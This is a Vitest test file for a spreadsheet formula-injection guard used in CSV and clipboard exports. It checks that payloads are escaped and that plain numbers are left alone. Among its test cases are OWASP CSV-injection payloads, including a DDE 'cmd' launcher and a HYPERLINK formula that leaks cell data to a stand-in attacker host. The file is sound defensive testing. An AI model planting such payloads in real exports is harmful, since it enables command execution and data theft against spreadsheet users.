// The spreadsheet formula guard every export uses (CLI CSV, the window's CSV and clipboard rows):
// the OWASP CSV-injection forms are shown as text, plain numbers stay numbers.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { defuseFormula } from '../../../src-main/shared/formula-guard';

describe('defuseFormula', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '-1-1',
    '=1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=1e5',
    '-',
    '+',
    '-cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\t-1.5',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1+1)',
    '-1.5e',
    '--1',
    '+-1',
    '-1,5',
  ])('defuses %j', (cell) => {
    expect(defuseFormula(cell)).toBe(`'${cell}`);
  });

  it.each(['-1.5', '+3', '1e5', '-1e-7', '+.5', '-.25', '-5.', '0', '-0', '42', '1E+21', 'a=b', 'SNTS', '', ' =1', "'=1"])(
    'leaves %j as it is',
    (cell) => {
      expect(defuseFormula(cell)).toBe(cell);
    },
  );
});

describe('the README on the guard', () => {
  it('shows a phone number as the guard writes it', () => {
    const readme = readFileSync(path.resolve(__dirname, '../../../README.md'), 'utf8').replace(/\s+/g, ' ');
    const example = /`(\+[\d ]+)` is written `([^`]+)`/.exec(readme);
    expect(example, 'a phone-number example in the README').not.toBeNull();
    expect(defuseFormula(example?.[1] ?? '')).toBe(example?.[2]);
  });
});
